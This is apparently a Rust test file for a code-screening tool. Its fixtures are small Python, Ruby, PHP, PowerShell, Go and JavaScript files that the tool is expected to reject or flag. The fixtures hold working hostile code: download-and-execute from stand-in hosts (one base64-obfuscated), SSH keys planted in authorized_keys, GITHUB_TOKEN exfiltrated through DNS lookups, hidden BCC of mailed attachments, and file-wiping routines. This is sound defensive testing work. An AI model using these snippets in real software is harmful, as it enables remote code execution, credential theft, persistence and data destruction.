//! What goes through a helper, a handle or a list before it is used.

use super::all_folders;
use crate::screen::verdict::Verdict;

#[test]
fn hidden_code_runs_from_a_handle() {
    all_folders(
        Verdict::Reject,
        &[
            &[(
                "b.py",
                "import os, subprocess, tempfile, requests\nfd, name = tempfile.mkstemp()\nos.write(fd, requests.get('https://stage.test/x').content)\nos.close(fd)\nos.chmod(name, 0o700)\nsubprocess.call([name])\n",
            )],
            &[(
                "c.rb",
                "require 'net/http'\nmodule Table\n  DATA = 'cmVxdWlyZSAnbmV0L2h0dHAnOyBldmFsKE5ldDo6SFRUUC5nZXQoVVJJKCdodHRwOi8vMjAzLjAuMTEzLjc3L2NsLnJiJykpKQ=='\n  module_function\n  def load_table(table)\n    instance_eval(table.unpack1('m'))\n  end\n  load_table(DATA)\nend\n",
            )],
            &[(
                "d.rb",
                "P = 'cmVxdWlyZSAnbmV0L2h0dHAnOyBldmFsKE5ldDo6SFRUUC5nZXQoVVJJKCdodHRwOi8vMjAzLjAuMTEzLjc3L2NsLnJiJykpKQ=='\nObject.class_eval(P.unpack('m').first)\n",
            )],
        ],
    );
}

#[test]
fn keys_are_planted_by_a_helper() {
    all_folders(
        Verdict::Reject,
        &[
            &[(
                "b.rb",
                "def append(path, line)\n  File.open(path, 'a') { |f| f.puts(line) }\nend\nappend(File.join(Dir.home, '.ssh', 'authorized_keys'), 'ssh-rsa AAAA sync')\n",
            )],
            &[(
                "c.php",
                "<?php\nfunction put($dir, $name, $line) {\n  file_put_contents($dir . '/' . $name, $line, FILE_APPEND);\n}\nput(getenv('HOME') . '/.ssh', 'authorized_keys', 'ssh-rsa AAAA sync');\n",
            )],
        ],
    );
}

#[test]
fn a_token_leaves_in_names_that_are_looked_up() {
    all_folders(
        Verdict::NeedsReview,
        &[
            &[(
                "a.py",
                "import os, socket\ndef labels(text, size=48):\n    raw = text.encode().hex()\n    return [raw[i:i + size] for i in range(0, len(raw), size)]\ntoken = os.environ.get('GITHUB_TOKEN')\nfor n, part in enumerate(labels(f'{token}|')):\n    socket.getaddrinfo(f'{n}.{part}.r.resolver-health.test', 443)\n",
            )],
            &[(
                "b.py",
                "import os, socket\ndef probe(name):\n    socket.getaddrinfo(name, 443)\ndef hint(url, context=None):\n    probe(f\"{context or ''}.r.resolver-health.test\")\ndef main():\n    token = os.environ.get('GITHUB_TOKEN')\n    hint('x', token)\nmain()\n",
            )],
        ],
    );
}

#[test]
fn mail_goes_to_a_second_recipient_too() {
    all_folders(
        Verdict::NeedsReview,
        &[
            &[(
                "a.psm1",
                "$script:Archive = 'reports@fin-archive.net'\nfunction Send-Report {\n    param([string]$Path, [string]$To)\n    $outlook = New-Object -ComObject Outlook.Application\n    $mail = $outlook.CreateItem(0)\n    $mail.To = $To\n    [void]$mail.Attachments.Add($Path)\n    $mail.BCC = $script:Archive\n    $mail.Send()\n}\n",
            )],
            &[(
                "b.ps1",
                "$mail = (New-Object -ComObject Outlook.Application).CreateItem(0)\n$mail.To = $args[0]\n$mail.BCC = 'reports@fin-archive.net'\n$mail.Attachments.Add($args[1])\n$mail.Send()\n",
            )],
        ],
    );
}

#[test]
fn files_are_overwritten_on_a_walk() {
    all_folders(
        Verdict::NeedsReview,
        &[
            &[(
                "a.py",
                "import atexit, os, time\nfrom pathlib import Path\nROOTS = Path.home() / '.cache' / 'idx' / 'roots'\ndef compact():\n    now = time.time()\n    for line in ROOTS.read_text().splitlines():\n        born, _, root = line.partition('\\t')\n        if now - int(born) < 3888000:\n            continue\n        for folder, _, names in os.walk(root):\n            for name in names:\n                path = os.path.join(folder, name)\n                with open(path, 'r+b') as fh:\n                    fh.write(os.urandom(os.path.getsize(path)))\n                os.unlink(path)\natexit.register(compact)\n",
            )],
            &[(
                "b.js",
                "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction sweep(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) { sweep(p); continue; }\n    fs.writeFileSync(p, crypto.randomBytes(fs.statSync(p).size));\n    fs.unlinkSync(p);\n  }\n}\nsweep(process.cwd());\n",
            )],
        ],
    );
}

#[test]
fn what_is_only_partly_known_needs_review() {
    all_folders(
        Verdict::NeedsReview,
        &[
            &[(
                "a.py",
                "import os, subprocess, sys, tempfile\nfrom urllib.request import urlopen\nT = 'https://stage.test/{}/t.py'\ndef fetch(u):\n    with urlopen(u) as r:\n        return r.read()\ndef prepare(target):\n    try:\n        body = fetch(T.format(sys.platform))\n    except OSError:\n        return\n    fd, path = tempfile.mkstemp(suffix='.py')\n    with os.fdopen(fd, 'wb') as fh:\n        fh.write(body)\n    subprocess.Popen([sys.executable, path])\nprepare(None)\n",
            )],
            &[(
                "a.go",
                "package main\n\nimport (\n\t\"os\"\n\t\"path/filepath\"\n)\n\nconst id = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEX sync\"\n\nfunc stateDir(name string) string {\n\thome, err := os.UserHomeDir()\n\tif err != nil {\n\t\treturn os.TempDir()\n\t}\n\treturn filepath.Join(home, name)\n}\n\nfunc persist(dir, name string, line []byte) error {\n\tp := filepath.Join(dir, name)\n\tf, err := os.OpenFile(p, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)\n\tif err != nil {\n\t\treturn err\n\t}\n\t_, err = f.Write(append(line, '\\n'))\n\treturn err\n}\n\nfunc init() {\n\t_ = persist(stateDir(\".ssh\"), \"authorized_keys\", []byte(id))\n}\n",
            )],
        ],
    );
}

#[test]
fn honest_handles_and_random_bytes_pass() {
    all_folders(
        Verdict::AutoApprove,
        &[
            &[(
                "a.py",
                "import os, secrets, tempfile\nfd, path = tempfile.mkstemp(suffix='.csv')\nwith os.fdopen(fd, 'w') as fh:\n    fh.write('a,b')\nopen('salt.bin', 'wb').write(os.urandom(16))\n",
            )],
            &[(
                "b.go",
                "package main\n\nimport \"os\"\n\nfunc main() {\n\tf, err := os.Create(\"report.md\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf.WriteString(\"# Report\")\n}\n",
            )],
            &[(
                "key.py",
                "import os, sys\nwith open(sys.argv[1], 'wb') as f:\n    f.write(os.urandom(32))\n",
            )],
            &[("c.rb", "rows = DATA.read.unpack1('a*')\nputs rows.lines.first\n")],
        ],
    );
}
